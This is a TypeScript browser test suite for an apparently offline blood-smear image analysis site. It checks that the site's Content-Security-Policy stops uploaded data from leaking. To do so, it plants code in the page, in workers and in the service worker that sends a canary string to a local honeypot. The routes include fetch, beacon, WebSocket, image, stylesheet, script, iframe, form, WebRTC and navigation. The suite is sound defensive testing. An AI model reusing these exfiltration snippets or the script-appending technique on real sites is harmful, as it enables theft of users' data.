/** No byte goes anywhere: a whole session with images that carry a mark, and leaks planted in every place a script runs. */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { goldenCases, root } from '../border/fixtures.ts';
import { firefox, launchChromium, launchFirefox } from './browsers.ts';
import { Honeypot } from './honeypot.ts';
import { dist } from './site.ts';
import { TestServer } from './test_server.ts';
import { WebKit, webKitMissing } from './webkit.ts';

const canary = 'cytodrop-canary-7f3a';
const hook = (name: string) => `[data-testid=${name}]`;

/** Ways out of a worker and of a service worker; each sends the mark, and resolves when it has been let go or stopped. */
const workerPlants = `
const plants = {
  fetch: (url) => fetch(url, { method: 'POST', mode: 'no-cors', body: '${canary}' }),
  query: (url) => fetch(url + '?${canary}', { mode: 'no-cors' }),
  websocket: (url) => new Promise((resolve) => { new WebSocket(url.replace('http', 'ws')).onerror = resolve; }),
};`;

/** Those of a page. */
const pagePlants = `${workerPlants}
Object.assign(plants, {
  beacon: (url) => navigator.sendBeacon(url, '${canary}'),
  image: (url) => new Promise((resolve) => { Object.assign(new Image(), { onload: resolve, onerror: resolve, src: url }); }),
  eventsource: (url) => new Promise((resolve) => { const source = new EventSource(url); source.onerror = () => { source.close(); resolve(); }; }),
  stylesheet: (url) => new Promise((resolve) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url, onload: resolve, onerror: resolve })); }),
  script: (url) => new Promise((resolve) => { document.head.append(Object.assign(document.createElement('script'), { src: url, onload: resolve, onerror: resolve })); }),
  frame: (url) => new Promise((resolve) => { document.body.append(Object.assign(document.createElement('iframe'), { src: url, onload: resolve, onerror: resolve })); setTimeout(resolve, 1000); }),
  form: (url) => new Promise((resolve) => {
    const frame = Object.assign(document.createElement('iframe'), { name: 'formed', onload: resolve });
    const form = Object.assign(document.createElement('form'), { action: url, method: 'post', target: 'formed' });
    form.append(Object.assign(document.createElement('input'), { name: 'canary', value: '${canary}' }));
    document.body.append(frame, form);
    form.submit();
    setTimeout(resolve, 1000);
  }),
});`;

const runPlants = (url: string) => `Promise.all(Object.entries(plants).map(async ([name, plant]) => {
  try { await plant('${url}/' + name + '/${canary}'); } catch {}
  return name;
}))`;

/** Appended to a script of the site; says on a channel, for as long as it lives, that all are through. */
const planted = (url: string) => `\n;(() => { ${workerPlants} ${runPlants(url)}.then((names) => { const channel = new BroadcastChannel('plants'); setInterval(() => channel.postMessage(names), 100); }); })();\n`;
const told = `return await new Promise((resolve) => { new BroadcastChannel('plants').onmessage = ({ data }) => resolve(data); });`;

/** One page of a browser. */
interface Tab {
  open(url: string): Promise<void>;
  /** Runs the body of an async function. */
  evaluate(script: string): Promise<unknown>;
}

interface Driven { close(): Promise<void>; inTab(use: (tab: Tab) => Promise<void>): Promise<void> }

function driven(launch: typeof launchChromium): () => Promise<Driven> {
  return async () => {
    const browser = await launch();
    return {
      close: () => browser.close(),
      inTab: async (use) => {
        const context = await browser.createBrowserContext();
        try {
          const page = await context.newPage();
          page.setDefaultTimeout(120_000);
          await use({ open: async (url) => void (await page.goto(url)), evaluate: (script) => page.evaluate(`(async () => { ${script} })()`) });
        } finally {
          await context.close();
        }
      },
    };
  };
}

/** One window; each visit is to an origin of its own. */
async function launchWebKit(): Promise<Driven> {
  const webKit = await WebKit.launch();
  return { close: () => webKit.close(), inTab: (use) => use(webKit) };
}

const browsers = [
  { name: 'Chromium', launch: driven(launchChromium), missing: undefined },
  { name: 'Firefox', launch: driven(launchFirefox), missing: firefox === undefined ? 'there is no Firefox (Debian: firefox-esr)' : undefined },
  { name: 'WebKitGTK', launch: launchWebKit, missing: webKitMissing },
];

for (const { name, launch, missing } of browsers) {
  describe(name, { skip: missing }, () => {
    let browser: Driven;
    before(async () => { browser = await launch(); });
    after(() => browser.close());

    interface Visit { tab: Tab; server: TestServer; honeypot: Honeypot }

    async function visit({ policy }: { policy: boolean }, change: (path: string, bytes: Buffer, honeypot: Honeypot) => Buffer, use: (visit: Visit) => Promise<void>): Promise<void> {
      const honeypot = await Honeypot.start();
      const server = new TestServer(dist);
      if (!policy) server.headers = {};
      server.change = (path, bytes) => change(path, policy ? bytes : withoutPolicy(path, bytes), honeypot);
      await server.start();
      try {
        await browser.inTab(async (tab) => {
          await tab.open(server.url);
          await appears(tab, `${hook('footer')}[data-self-test=passed]`);
          await use({ tab, server, honeypot });
        });
      } finally {
        await server.stop();
        await honeypot.stop();
      }
    }

    async function appears(tab: Tab, selector: string): Promise<void> {
      const found = await tab.evaluate(`
        for (let tries = 0; tries < 2400 && !document.querySelector(${JSON.stringify(selector)}); tries++) await new Promise((resolve) => setTimeout(resolve, 50));
        return document.querySelector(${JSON.stringify(selector)}) !== null;`);
      assert.equal(found, true, `${selector} does not appear`);
    }

    async function stoppedAll(honeypot: Honeypot): Promise<void> {
      await honeypot.drain();
      assert.equal(honeypot.received, '');
      assert.equal(honeypot.bytes, 0);
    }

    const unchanged = (_: string, bytes: Buffer) => bytes;

    test('a whole session, then without a server: nothing arrives, and the site itself is asked for nothing', async () => {
      await visit({ policy: true }, unchanged, async ({ tab, server, honeypot }) => {
        const images = goldenCases.map(({ image }) => Buffer.concat([readFileSync(join(new URL('models/blood-smear/golden', root).pathname, image)), Buffer.from(canary)]).toString('base64'));
        await appears(tab, `${hook('footer')}[data-offline=ready]`);
        const asked = server.asked.length;
        for (const isOnline of [true, false]) {
          if (!isOnline) {
            await server.stop();
            await tab.open(server.url);
            await appears(tab, `${hook('footer')}[data-self-test=passed]`);
          }
          await tab.evaluate(`
            const chosen = new DataTransfer();
            ${JSON.stringify(images)}.forEach((text, i) => chosen.items.add(new File([Uint8Array.from(atob(text), (c) => c.charCodeAt(0))], '${canary}-' + i + '.png', { type: 'image/png' })));
            const input = document.querySelector('${hook('file-input')}');
            input.files = chosen.files;
            input.dispatchEvent(new Event('change', { bubbles: true }));`);
          await appears(tab, `${hook('progress')}[data-state=done][data-done="${images.length}"]`);
          await tab.evaluate(`document.querySelector('${hook('cell-card')}').click();`);
          await appears(tab, `${hook('details')} canvas`);
          await tab.evaluate(`document.querySelector('${hook('file-facts')} summary').click();`);
          await appears(tab, `${hook('file-contents')}[data-tags]`);
          await appears(tab, `${hook('footer')}[data-requests-since="0"]`);
          assert.deepEqual(server.asked.slice(asked).filter((path) => !path.startsWith('icons/')), []);
        }
        await stoppedAll(honeypot);
      });
    });

    describe('planted in the page', () => {
      const names = ['fetch', 'query', 'websocket', 'beacon', 'image', 'eventsource', 'stylesheet', 'script', 'frame', 'form'];
      const withoutServiceWorker = (path: string, bytes: Buffer) => (path === 'service_worker.js' ? Buffer.from('throw 0') : bytes);

      test('the honeypot notices every way out where the policy is taken away', async () => {
        await visit({ policy: false }, withoutServiceWorker, async ({ tab, honeypot }) => {
          await tab.evaluate(`${pagePlants} return ${runPlants(honeypot.url)};`);
          for (const plant of names) assert.ok(await honeypot.until(({ received }) => received.includes(`/${plant}/${canary}`), 30_000), plant);
        });
      });

      test('with the policy none gets out', async () => {
        await visit({ policy: true }, withoutServiceWorker, async ({ tab, honeypot }) => {
          assert.deepEqual(await tab.evaluate(`${pagePlants} return ${runPlants(honeypot.url)};`), names);
          await stoppedAll(honeypot);
          assert.equal(honeypot.connections, 0);
        });
      });

      const callOut = (address: string): string => `
        try {
          const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${address}' }] });
          peer.createDataChannel('canary');
          await peer.setLocalDescription();
          await new Promise((resolve) => {
            peer.onicegatheringstatechange = () => { if (peer.iceGatheringState === 'complete') resolve(); };
            setTimeout(resolve, 3_000);
          });
          return 'made';
        } catch (error) {
          return 'refused: ' + error.name;
        }`;

      test('WebRTC: seen without the policy, refused with it', async (run) => {
        let exists: unknown = true;
        await visit({ policy: false }, withoutServiceWorker, async ({ tab, honeypot }) => {
          exists = await tab.evaluate(`return 'RTCPeerConnection' in window;`);
          if (!exists) return;
          assert.equal(await tab.evaluate(callOut(honeypot.udp)), 'made');
          assert.ok(await honeypot.until(({ datagrams }) => datagrams > 0, 30_000), 'no datagram');
        });
        await visit({ policy: true }, withoutServiceWorker, async ({ tab, honeypot }) => {
          assert.match(String(await tab.evaluate(callOut(honeypot.udp))), /^refused/);
          await stoppedAll(honeypot);
          assert.equal(honeypot.datagrams, 0);
        });
        if (!exists) run.skip('this browser was built without WebRTC: refused with the policy and without');
      });

      for (const [way, leave] of [
        ['location', (address: string) => `location.href = '${address}';`],
        ['link', (address: string) => `Object.assign(document.body.appendChild(document.createElement('a')), { href: '${address}' }).click();`],
        ['window', (address: string) => `window.open('${address}', '_blank', 'noopener');`],
      ] as const) {
        test(`leaving for another site with something in the address, by ${way}: seen without the policy, refused with it`, async (run) => {
          let [can, isStopped] = [true, true];
          await visit({ policy: false }, withoutServiceWorker, async ({ tab, honeypot }) => {
            can = way !== 'window' || (await tab.evaluate(`const opened = window.open('', '_blank'); opened?.close(); return opened !== null;`)) === true;
            // By nothing but the interface by which a page hears of a navigation: docs/privacy.md says so.
            isStopped = way !== 'location' || (await tab.evaluate(`return 'navigation' in window;`)) === true;
            // The page may be gone before it has answered.
            await tab.evaluate(leave(`${honeypot.url}/${canary}`)).catch(() => undefined);
            if (can) assert.ok(await honeypot.until(({ received }) => received.includes(canary), 30_000), 'not seen');
          });
          await visit({ policy: true }, withoutServiceWorker, async ({ tab, server, honeypot }) => {
            await tab.evaluate(leave(`${honeypot.url}/${canary}`)).catch((error: unknown) => { if (isStopped) throw error; });
            if (!isStopped) {
              assert.ok(await honeypot.until(({ received }) => received.includes(canary), 30_000), 'the gap is closed: say so in docs/privacy.md');
              return;
            }
            // Were it under way, this would wait for it.
            assert.equal(await tab.evaluate('await new Promise((resolve) => setTimeout(resolve, 500)); return location.href;'), server.url);
            await stoppedAll(honeypot);
          });
          if (!can) run.skip('this browser opens no window that nobody pressed for, with the policy or without');
          if (!isStopped) run.skip('nothing stops this in a browser without the interface Navigation, as docs/privacy.md says');
        });
      }
    });

    for (const [place, isScript] of [
      ['worker', (path: string) => /worker-[^/]*\.js$/.test(path)], ['service worker', (path: string) => path === 'service_worker.js'],
    ] as const) {
      describe(`planted in the ${place}`, () => {
        const plant = (path: string, bytes: Buffer, honeypot: Honeypot) => (isScript(path) ? Buffer.concat([bytes, Buffer.from(planted(honeypot.url))]) : bytes);
        const names = ['fetch', 'query', 'websocket'];

        test('the honeypot notices every way out where the policy is taken away', async () => {
          await visit({ policy: false }, plant, async ({ honeypot }) => {
            for (const name of names) assert.ok(await honeypot.until(({ received }) => received.includes(`/${name}/${canary}`), 30_000), name);
          });
        });

        test('with the policy none gets out', async () => {
          await visit({ policy: true }, plant, async ({ tab, honeypot }) => {
            assert.deepEqual(await tab.evaluate(told), names);
            await stoppedAll(honeypot);
          });
        });
      });
    }
  });
}

/** The site as one without a care would serve it. */
function withoutPolicy(path: string, bytes: Buffer): Buffer {
  if (path === 'guard.js') return Buffer.from('');
  return path === 'index.html' ? Buffer.from(bytes.toString().replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '')) : bytes;
}
